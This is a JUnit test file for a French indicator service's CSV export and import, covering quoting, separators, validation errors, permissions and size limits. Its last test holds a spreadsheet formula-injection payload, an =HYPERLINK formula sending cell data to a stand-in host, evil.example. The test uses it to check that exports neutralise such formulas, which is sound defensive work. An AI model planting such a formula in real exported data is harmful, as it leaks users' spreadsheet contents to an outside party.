package fr.ctg.indicator;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import fr.ctg.CtgSpringTest;
import fr.ctg.TestLogin;
import fr.ctg.base.AccessRefusedException;
import fr.ctg.base.csv.Csv;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;

/** CSV export (RFC 4180, BOM, separators) and import with a row-by-row dry run; nothing written unconfirmed. */
@CtgSpringTest
class IndicatorCsvServiceTest {

    @Autowired IndicatorCsvService csv;
    @Autowired IndicatorValuesService values;
    @Autowired IndicatorFixture fixture;
    @Autowired TestLogin login;

    IndicatorFixture.Catalogue c;

    @BeforeEach
    void setUp() {
        c = fixture.create();
        login.as(c.user("suivi"));
    }

    @AfterEach
    void tearDown() {
        login.logout();
    }

    private static byte[] file(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private void put(long indicator, String period, String value, String comment) {
        values.record(new ValueEntry(indicator, period, new BigDecimal(value), SourceKind.CAF, null, comment, false, null));
    }

    @Test
    void exportIsRfc4180WithBomAndTheChosenSeparator() {
        put(c.places(), "2023", "50", "Dont 4 places « crèche; familiale »");
        put(c.children(), "2023", "200", "ligne 1\nligne 2 \"citée\"");
        String semi = new String(csv.export(c.w().conventionId(), null, null, null, ';'), StandardCharsets.UTF_8);
        assertThat(semi).startsWith("\uFEFFcode;indicateur;groupe;periode;valeur;unite;source;precision_source;commentaire;calcule\r\n");
        assertThat(semi).contains("EAJE_PLACES;Places en EAJE;Groupe A;2023;50;places;CAF;;\"Dont 4 places « crèche; familiale »\";non\r\n");
        assertThat(semi).contains("\"ligne 1\nligne 2 \"\"citée\"\"\"");
        assertThat(semi).contains("COUV_EAJE;Taux de couverture EAJE;Groupe A;2023;25;%;;;;oui");
        String comma = new String(csv.export(c.w().conventionId(), Set.of(c.coverage()), 2023, 2023, ','), StandardCharsets.UTF_8);
        assertThat(comma.lines().toList()).hasSize(2);
        assertThat(comma).contains("COUV_EAJE,Taux de couverture EAJE,Groupe A,2023,25,%,,,,oui");
    }

    @Test
    void aGoodFrenchFileIsPreviewedThenWrittenOnlyOnConfirmation() {
        put(c.places(), "2022", "1000", null);
        byte[] f = file("\uFEFFcode;période;valeur;source;précision source;commentaire\r\n"
                + "EAJE_PLACES;2023;1 234,5;Caf;;\r\n"
                + "ENFANTS_3;2023;4\u00a0200;INSEE;;recensement\r\n"
                + "EAJE_PLACES;2022;1000;caf;;\r\n");
        ImportPreview p = csv.preview(c.w().conventionId(), f);
        assertThat(p.fileRejected()).isFalse();
        assertThat(p.rows()).extracting(r -> r.line() + ":" + r.outcome())
                .containsExactly("2:NEW", "3:NEW", "4:UNCHANGED");
        assertThat(p.rows().getFirst().value()).isEqualByComparingTo("1234.5");
        assertThat(p.rows().get(1).value()).isEqualByComparingTo("4200");
        assertThat(values.series(c.children())).as("a preview writes nothing").isEmpty();
        assertThat(csv.confirm(c.w().conventionId(), f)).isEqualTo(2);
        assertThat(values.series(c.children())).singleElement()
                .satisfies(v -> assertThat(v.source()).isEqualTo(SourceKind.INSEE));
        assertThat(values.history(c.places(), "2023")).singleElement()
                .satisfies(h -> assertThat(h.newValue()).isEqualByComparingTo("1234.5"));
    }

    @Test
    void aBadFileIsRejectedRowByRowWithLineNumbers() {
        put(c.laep(), "2024-T1", "40", null);
        byte[] f = file("code;periode;valeur;source;commentaire;motif\n"
                + "EAJE_PLACES;2023;12;CAF;;\n"
                + "INCONNU;2023;12;CAF;;\n"
                + "ENFANTS_3;2023;n/a;CAF;;\n"
                + "ENFANTS_3;2022;12,3,4;CAF;;\n"
                + "EAJE_PLACES;2023;13;CAF;;\n"
                + "LAEP_FREQ;2024;40;CAF;;\n"
                + "LAEP_FREQ;2024-T2;140;CAF;;\n"
                + "LAEP_FREQ;2024-T3;90;CAF;;\n"
                + "LAEP_FREQ;2024-T4;41;CAF;;\n"
                + "ENFANTS_3;2021;12;Mairie;;\n"
                + "ENFANTS_3;2020;12;CAF\n"
                + "COUV_EAJE;2023;25;CAF;;\n");
        ImportPreview p = csv.preview(c.w().conventionId(), f);
        assertThat(p.rows()).extracting(r -> r.line() + ":" + r.outcome() + ":" + r.messageKey()).containsExactly(
                "2:NEW:null",
                "3:ERROR:indicator.csv.unknownIndicator",
                "4:ERROR:indicator.csv.notANumber",
                "5:ERROR:indicator.csv.notANumber",
                "6:ERROR:indicator.csv.duplicate",
                "7:ERROR:indicator.error.periodFor",
                "8:ERROR:indicator.error.range",
                "9:NEW:null",
                "10:ERROR:indicator.outlier.previous",
                "11:ERROR:indicator.csv.source",
                "12:ERROR:indicator.csv.fieldCount",
                "13:SKIPPED:indicator.csv.computedSkipped");
        assertThat(p.rows().get(4).messageArguments()).containsExactly(2);
        assertThat(csv.confirm(c.w().conventionId(), f)).as("only the valid rows").isEqualTo(2);
        assertThat(values.series(c.laep())).extracting(ValueRow::period).containsExactly("2024-T1", "2024-T3");
    }

    @Test
    void wrongColumnsRejectTheWholeFileAndReaderCannotImport() {
        ImportPreview unknown = csv.preview(c.w().conventionId(), file("code;periode;valeur;source;couleur\nX;2023;1;CAF;bleu\n"));
        assertThat(unknown.fileErrorKey()).isEqualTo("indicator.csv.unknownColumn");
        ImportPreview missing = csv.preview(c.w().conventionId(), file("code,periode,valeur\nX,2023,1\n"));
        assertThat(missing.fileErrorKey()).isEqualTo("indicator.csv.missingColumn");
        assertThat(missing.fileErrorArguments()).containsExactly("source");
        assertThat(csv.preview(c.w().conventionId(), new byte[] {(byte) 0xC3, 0x28}).fileErrorKey())
                .isEqualTo("indicator.csv.encoding");
        assertThat(csv.preview(c.w().conventionId(), file("code;periode;valeur;source\n\"X;2023;1;CAF\n")).fileErrorKey())
                .isEqualTo("indicator.csv.openQuote");
        login.as(c.user("lecteur"));
        assertThatThrownBy(() -> csv.preview(c.w().conventionId(), file("code;periode;valeur;source\n")))
                .isInstanceOf(AccessRefusedException.class);
    }

    @Test
    void anExportReadsBackUnchanged() {
        put(c.places(), "2022", "48", "avec « guillemets; »");
        put(c.places(), "2023", "50.5", null);
        put(c.laep(), "2024-T1", "33.3", null);
        for (char sep : List.of(';', ',')) {
            byte[] exported = csv.export(c.w().conventionId(), null, null, null, sep);
            ImportPreview p = csv.preview(c.w().conventionId(), exported);
            assertThat(p.fileRejected()).isFalse();
            assertThat(p.rows()).extracting(ImportPreview.Row::outcome).as("separator " + sep)
                    .containsExactly(ImportPreview.Outcome.UNCHANGED, ImportPreview.Outcome.UNCHANGED,
                            ImportPreview.Outcome.UNCHANGED);
        }
    }

    @Test
    void aFileOverTheLimitIsRefusedWithoutBeingRead() {
        ImportPreview p = csv.preview(c.w().conventionId(), new byte[IndicatorCsvService.MAX_BYTES + 1]);
        assertThat(p.fileErrorKey()).isEqualTo("indicator.csv.tooLarge");
        assertThat(p.fileErrorArguments()).containsExactly(20);
    }

    static final String FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1;\"clic\")";

    /** Hole 2 of the security review: a comment typed as a formula ran in the spreadsheet that opened the export. */
    @Test
    void csvFormulaInjectionIsNeutralisedInTheExportAndStrippedBackOnImport() {
        put(c.places(), "2022", "48", FORMULA);
        put(c.places(), "2023", "50.5", "@SUM(1+1)");
        String exported = new String(csv.export(c.w().conventionId(), null, null, null, ';'), StandardCharsets.UTF_8);
        assertThat(exported).contains(";\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"clic\"\")\";", ";'@SUM(1+1);")
                .as("a number stays a number").contains(";50,5;")
                .doesNotContain(";\"=HYPERLINK", ";@SUM");
        List<Csv.Record> back = Csv.parse(Csv.stripBom(exported), ';');
        assertThat(back).extracting(r -> r.fields().get(8)).contains(FORMULA, "@SUM(1+1)");
        ImportPreview p = csv.preview(c.w().conventionId(), exported.getBytes(StandardCharsets.UTF_8));
        assertThat(p.rows()).extracting(ImportPreview.Row::outcome).containsOnly(ImportPreview.Outcome.UNCHANGED);
    }
}
